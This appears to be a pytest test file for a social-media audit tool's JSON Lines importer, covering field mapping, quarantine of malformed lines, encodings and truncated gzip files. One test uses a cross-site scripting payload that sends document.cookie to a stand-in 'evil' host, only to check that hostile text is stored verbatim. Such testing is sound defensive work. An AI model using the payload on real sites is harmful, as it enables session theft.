"""Generic JSON Lines (and JSON arrays): default fields, dotted mappings, bad lines and values."""

from __future__ import annotations

import datetime as dt
import gzip
import json

import pytest
from helpers import FIXTURES, write

from socialaudit.errors import FormatError
from socialaudit.ingest.base import IngestOptions
from socialaudit.ingest.files import open_source
from socialaudit.ingest.generic_jsonl import GenericJsonlFormat, flatten
from socialaudit.ingest.mapping import ColumnMapping
from socialaudit.model import UTC
from socialaudit.store import import_file

HERE = FIXTURES / "generic"
POSTS = [
    {"id": "1", "channel": "twitter", "author": "jane", "created_at": "2024-03-01T10:00:00Z",
     "text": "@AcmeCare my kettle leaks", "parent_id": None, "company": "Acme", "author_role": "consumer",
     "likes": 3, "followers": 120, "verified": False, "display_name": "Jane"},
    {"id": "2", "channel": "twitter", "author": "AcmeCare", "created_at": "2024-03-01T11:30:00+01:00",
     "text": "@jane sorry!", "parent_id": "1", "company": "Acme", "author_role": "brand", "verified": True},
    {"id": 3, "channel": "Twitter", "author": "jane", "created_at": 1709294400000, "text": "thanks",
     "parent_id": 2},
]
JSONL = "".join(json.dumps(p) + "\n" for p in POSTS)
ROWS = "SELECT post_id, account_id, author_role, kind, parent_id, conversation_id, company_id FROM posts ORDER BY post_id"


def rows(store, sql=ROWS):
    return store.con.execute(sql).fetchall()


def quarantine(store):
    return store.con.execute("SELECT line, item, reason, raw FROM quarantine ORDER BY line, item").fetchall()


def test_flatten_gives_dotted_paths():
    assert flatten({"a": 1, "user": {"name": "x", "stats": {"n": 2}}}) == {
        "a": 1, "user": {"name": "x", "stats": {"n": 2}}, "user.name": "x", "user.stats": {"n": 2},
        "user.stats.n": 2}


def test_default_fields_known_answers(store, tmp_path):
    report = import_file(store, write(tmp_path / "g.jsonl", JSONL), "jsonl", pseudonymise=False)
    assert (report.rows_read, report.imported, report.quarantined) == (3, 3, 0)
    assert rows(store) == [
        ("1", "jane", "consumer", "post", None, "1", "acme"),
        ("2", "AcmeCare", "brand", "reply", "1", "1", "acme"),
        ("3", "jane", "consumer", "reply", "2", "1", "acme"),
    ]
    assert dict(rows(store, "SELECT post_id, created_at FROM posts")) == {
        "1": dt.datetime(2024, 3, 1, 10, tzinfo=UTC), "2": dt.datetime(2024, 3, 1, 10, 30, tzinfo=UTC),
        "3": dt.datetime(2024, 3, 1, 12, tzinfo=UTC)}  # epoch milliseconds
    assert rows(store, "SELECT account_id, display_name, followers, verified FROM accounts ORDER BY 1") == [
        ("AcmeCare", None, None, True), ("jane", "Jane", 120, False)]
    assert rows(store, "SELECT likes, source_line, source_item FROM posts WHERE post_id = '1'") == [(3, 1, "")]


def test_a_json_array_of_posts(store, tmp_path):
    report = import_file(store, write(tmp_path / "g.json", json.dumps(POSTS, indent=2)), "jsonl", pseudonymise=False)
    assert (report.imported, report.quarantined) == (3, 0)
    assert rows(store, "SELECT post_id, source_line, source_item FROM posts ORDER BY 1") == [
        ("1", 1, "[0]"), ("2", 1, "[1]"), ("3", 1, "[2]")]


def test_hostile_text_is_stored_verbatim(store, tmp_path):
    text = "<script>fetch('//evil/'+document.cookie)</script>\u202e\u0000"
    post = POSTS[0] | {"text": text}
    import_file(store, write(tmp_path / "g.jsonl", json.dumps(post) + "\n"), "jsonl")
    assert rows(store, "SELECT text FROM posts") == [(text,)]


# --- a dotted mapping ------------------------------------------------------------------------------


def test_a_mapping_with_dotted_paths_into_nested_objects(store):
    options = IngestOptions(mapping=ColumnMapping.load(HERE / "forum_mapping.yaml"))
    report = import_file(store, HERE / "forum_export.jsonl", "jsonl", options=options, pseudonymise=False)
    assert (report.rows_read, report.imported, report.quarantined) == (4, 3, 1)
    assert rows(store, "SELECT post_id, channel, account_id, role_hint, parent_id, created_at, likes FROM posts "
                       "ORDER BY post_id") == [
        ("201", "forum", "jana", "consumer", None, dt.datetime(2024, 1, 15, 8, 30, tzinfo=UTC), 2),
        ("202", "forum", "AcmeService", "brand", "201", dt.datetime(2024, 1, 15, 9, 5, tzinfo=UTC), 0),
        ("204", "forum", None, "consumer", "202", dt.datetime(2024, 7, 1, 10, tzinfo=UTC), None),  # user not an object
    ]
    [(line, item, reason, raw)] = quarantine(store)
    assert (line, item, reason) == (3, "", "bad timestamp 'gestern' in posted")
    assert json.loads(raw)["post_no"] == 203


# --- bad lines and values ----------------------------------------------------------------------------


def test_bad_lines_and_values_are_quarantined_with_line_and_reason(store, tmp_path):
    good = json.dumps(POSTS[0])
    lines = [
        good,
        '{"id": "10", "channel": "twitter", "created_at": "2024-01-01"',          # cut off
        "",                                                                       # blank
        json.dumps([POSTS[0]]),                                                   # not an object
        json.dumps({"id": "", "channel": "twitter", "created_at": "2024-01-01"}),
        json.dumps({"id": "12", "channel": "twitter", "created_at": "someday"}),
        json.dumps({"id": "13", "channel": "twitter", "created_at": "2024-01-01", "likes": -4}),
        json.dumps({"id": "14", "channel": "twitter", "created_at": "2024-01-01", "text": {"html": "<b>"}}),
        json.dumps({"id": 1.5e18, "channel": "twitter", "created_at": "2024-01-01"}),
        json.dumps({"id": "16", "channel": "twitter", "created_at": "2024-01-01", "verified": "sometimes",
                    "author": "x"}),
        json.dumps({"id": "17", "channel": "twitter", "created_at": "2024-01-01", "kind": "retweet"}),
        json.dumps({"id": "18", "channel": None, "created_at": "2024-01-01"}),
        '{"id": "19", "channel": "twitter", "created_at": "2024-01-01", "v": ' + "[" * 100 + "]" * 100 + "}",
        json.dumps({"id": 20, "channel": "twitter", "created_at": "2024-01-01", "likes": "7"}),
    ]
    body = ("\n".join(lines) + "\n").encode()
    body += b'{"id": "21", "channel": "twitter", "created_at": "2024-01-01", "text": "caf\xe9"}\n'
    report = import_file(store, write(tmp_path / "g.jsonl", body), "jsonl")
    assert (report.rows_read, report.imported, report.quarantined) == (10, 2, 12)
    got = [(line, reason) for line, _, reason, _ in quarantine(store)]
    assert got == [
        (2, "invalid JSON: Expecting ',' delimiter at line 2 column 1"),
        (4, "expected a JSON object, found list"),
        (5, "missing id in id"),
        (6, "bad timestamp 'someday' in created_at"),
        (7, "bad count '-4' in likes"),
        (8, "expected text in text, found an object"),
        (9, ("id 1500000000000000000 in id is a floating-point number too large to be exact "
             "(its last digits are lost; keep ids as text or integers)")),
        (10, "bad boolean 'sometimes' in verified (expected true/false)"),
        (11, "bad kind 'retweet' in kind (one of post, reply, comment, mention, share, quote)"),
        (12, "missing channel in channel"),
        (13, "JSON nested deeper than 64 levels"),
        (15, "bytes that are not valid UTF-8 (is the file in another encoding?)"),
    ]
    assert rows(store, "SELECT post_id, likes FROM posts ORDER BY 1") == [("1", 3), ("20", 7)]
    raws = {line: raw for line, _, _, raw in quarantine(store)}
    assert raws[2] == lines[1]
    assert json.loads(raws[6]) == json.loads(lines[5])
    assert raws[15].endswith('"text": "caf\\xe9"}')


def test_bad_values_in_an_array_are_located_by_index(store, tmp_path):
    posts = [POSTS[0], {"id": "5", "channel": "twitter", "created_at": "nope"}, "text", POSTS[1]]
    import_file(store, write(tmp_path / "g.json", json.dumps(posts)), "jsonl")
    assert [(line, item, reason) for line, item, reason, _ in quarantine(store)] == [
        (1, "[1]", "bad timestamp 'nope' in created_at"), (1, "[2]", "expected a JSON object, found str")]


def test_gaps_written_as_nan_and_big_integer_ids(store, tmp_path):
    line = ('{"id": 1245425308704149506, "channel": "twitter", "created_at": "2024-01-01", "likes": NaN, '
            '"parent_id": NaN}\n')
    report = import_file(store, write(tmp_path / "g.jsonl", line), "jsonl")
    assert (report.imported, report.quarantined) == (1, 0)
    assert rows(store, "SELECT post_id, likes, parent_id, kind FROM posts") == [
        ("1245425308704149506", None, None, "post")]


def test_the_first_object_may_lack_a_field_the_others_have(store, tmp_path):
    body = json.dumps({"id": "0", "text": "no channel, no time"}) + "\n" + JSONL
    report = import_file(store, write(tmp_path / "g.jsonl", body), "jsonl", pseudonymise=False)
    assert (report.rows_read, report.imported, report.quarantined) == (4, 3, 1)
    assert [(line, reason) for line, _, reason, _ in quarantine(store)] == [(1, "missing channel in channel")]


def test_a_truncated_gzip_keeps_the_lines_before_the_damage(store, tmp_path):
    body = "".join(json.dumps({"id": str(i), "channel": "forum", "created_at": "2024-01-01", "text": "x" * 40}) + "\n"
                   for i in range(3000))
    packed = gzip.compress(body.encode())
    report = import_file(store, write(tmp_path / "cut.jsonl.gz", packed[: len(packed) // 2]), "jsonl")
    assert 100 < report.imported < 3000
    truncated = [reason for _, _, reason, _ in quarantine(store) if reason.startswith("file truncated")]
    assert len(truncated) == 1 and "compressed stream ends early" in truncated[0]
    ids = sorted(int(i) for (i,) in rows(store, "SELECT post_id FROM posts"))
    assert ids == list(range(len(ids)))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "cp1252"])
def test_other_encodings(store, tmp_path, encoding):
    body = JSONL.replace("my kettle leaks", "Grüße aus Köln – ça va?")
    report = import_file(store, write(tmp_path / "g.jsonl", body.encode(encoding)), "jsonl")
    assert (report.imported, report.quarantined) == (3, 0)
    assert rows(store, "SELECT text FROM posts WHERE post_id = '1'") == [("@AcmeCare Grüße aus Köln – ça va?",)]


def test_batches(tmp_path):
    with open_source(write(tmp_path / "g.jsonl", JSONL * 1)) as (stream, info):
        batches = list(GenericJsonlFormat().parse(stream, info, IngestOptions(batch_size=2)))
    assert [b.post_count for b in batches] == [2, 1]


# --- not generic JSON Lines ------------------------------------------------------------------------


def test_objects_without_the_required_fields_are_one_clear_error(store, tmp_path):
    body = json.dumps({"tweet_id": "1", "body": "hi"}) + "\n" + json.dumps({"tweet_id": "2", "body": "ho"}) + "\n"
    with pytest.raises(FormatError, match="missing required column\\(s\\) id \\(column 'id'\\), channel"):
        import_file(store, write(tmp_path / "x.jsonl", body), "jsonl")
    assert rows(store, "SELECT status FROM imports") == [("failed",)]


def test_a_platform_payload_is_not_generic(store):
    with pytest.raises(FormatError, match="missing required column"):
        import_file(store, FIXTURES / "x_v2" / "search_page.json", "jsonl")


@pytest.mark.parametrize(("content", "message"), [
    ("", "empty file: no JSON objects"),
    ("\n \n", "empty file: no JSON objects"),
    ("[1, 2, 3]", "no JSON objects, only int values"),
    ('"a"\n[1]\n', "no JSON objects, only list, str values"),
    ("id,channel,created_at\n1,x,2024\n", "not JSON: the file starts with 'id,channel,created_at'"),
])
def test_files_that_are_not_json_lines_of_posts(store, tmp_path, content, message):
    path = write(tmp_path / "bad.jsonl", content)
    with pytest.raises(FormatError) as err:
        import_file(store, path, "jsonl")
    assert str(err.value) == f"{path.resolve()}: {message}"
